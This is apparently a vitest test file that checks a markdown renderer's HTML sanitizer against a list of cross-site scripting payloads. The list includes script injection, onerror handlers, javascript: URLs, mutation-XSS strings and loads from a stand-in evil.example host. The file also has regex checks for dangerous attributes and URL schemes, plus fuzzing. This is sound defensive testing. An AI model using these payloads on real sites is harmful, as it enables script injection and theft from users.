import fc from 'fast-check';
import type { Element, Root, RootContent } from 'hast';
import { describe, expect, test } from 'vitest';
import { allowedHtml } from '../../../../../src/model/markdown/plain/html.ts';
import { plainTree } from '../../../../../src/model/markdown/plain/tree.ts';
import { build, compile, textOf } from '../build.ts';

const elementsIn = (node: Root | RootContent): Element[] => [
  ...(node.type === 'element' ? [node] : []),
  ...('children' in node ? (node.children as RootContent[]).flatMap(elementsIn) : []),
];

/** Proves that nothing in a tree could run, be styled, or be loaded from elsewhere. */
function provesHarmless(text: string): void {
  for (const { tagName, properties } of elementsIn(plainTree(text))) {
    expect(allowedHtml.tagNames).toContain(tagName);
    for (const [name, value] of Object.entries(properties)) {
      expect(name).not.toMatch(/^on|^style$|^srcdoc$|^srcSet$|^form|^action$|^is$|^slot$/i);
      if (/^(?:href|src|poster)$/.test(name))
        expect(String(value).replace(/[\u0000- ]/g, '')).not.toMatch(
          /^(?:javascript|data|vbscript|blob|file):/i,
        );
    }
  }
}

const attacks = [
  '<script>alert(1)</script>',
  '<script src="https://evil.example/x.js"></script>',
  '<ScRiPt>alert(1)</sCrIpT >',
  '<img src=x onerror=alert(1)>',
  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
  '<svg onload=alert(1)><script>alert(1)</script></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="https://evil.example/"></object><embed src="https://evil.example/">',
  '<form action="https://evil.example/"><input name="a"><button>b</button></form>',
  '<a href="javascript:alert(1)">a</a>',
  '<a href=" java&#x0A;script:alert(1)">a</a>',
  '<a href="JaVaScRiPt&colon;alert(1)">a</a>',
  '[a](javascript:alert(1))',
  '[a](&#106;avascript:alert(1))',
  '[a](data:text/html,<script>alert(1)</script>)',
  '![a](javascript:alert(1))',
  '<javascript:alert(1)>',
  '<p style="background:url(https://evil.example/)">a</p>',
  '<style>a { color: red }</style>',
  '<link rel="stylesheet" href="https://evil.example/x.css"><meta http-equiv="refresh" content="0">',
  '<base href="https://evil.example/">',
  '<video src="https://evil.example/a.mp4" onplay="alert(1)" poster="javascript:alert(1)"></video>',
  '<details open ontoggle=alert(1)><summary>a</summary></details>',
  '<div id="_skills" name="x">a</div>',
  '<template><script>alert(1)</script></template><noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<textarea><img src=x onerror=alert(1)></textarea>',
  '<title><img src=x onerror=alert(1)></title>',
  '<x-y is="z" slot="a">a</x-y>',
  '```js title="<img src=x onerror=alert(1)>"\na\n```',
  ':::note[<img src=x onerror=alert(1)>]\na\n:::',
  ':::details <script>alert(1)</script>\na\n:::',
];

describe('hostile text', () => {
  test.each(attacks)('%s does nothing', (text) => {
    provesHarmless(text);
    const { elements } = build(`Before.\n\n${text}\n\nAfter.`, 'md');
    for (const { name, attributes } of elements) {
      expect(name).not.toMatch(/^(?:script|style|iframe|object|embed|form|svg|link|meta|base)$/);
      expect(Object.keys(attributes).filter((key) => /^on|^style$/i.test(key))).toEqual([]);
      expect(attributes['href'] ?? '').not.toMatch(/^\s*(?:javascript|data):/i);
      if (attributes['src']) expect(attributes['src']).toMatch(/^\//);
    }
  });

  test('hides nothing that follows it', () => {
    for (const text of attacks)
      if (!/<(?:math|noscript|textarea|template)/.test(text))
        expect(compile(`${text}\n\nAfter.`, 'md').map(textOf).join(' '), text).toContain('After.');
  });

  test('in any order and any pieces does nothing', () => {
    const pieces = fc.array(
      fc.oneof(
        fc.constantFrom(...attacks),
        fc.constantFrom(
          '<',
          '>',
          '"',
          "'",
          '&lt;',
          '-->',
          '<!--',
          '\n\n',
          '`',
          '](',
          '<a ',
          'href=',
        ),
        fc.string({ maxLength: 8 }),
      ),
      { maxLength: 8 },
    );
    fc.assert(
      fc.property(pieces, (parts) => {
        provesHarmless(parts.join(''));
      }),
      { numRuns: 300 },
    );
  });

  test('names nothing that the frame of a page has', () => {
    const ids = elementsIn(plainTree(attacks.join('\n\n'))).map(({ properties }) => properties.id);
    expect(ids).not.toContain('_skills');
  });
});
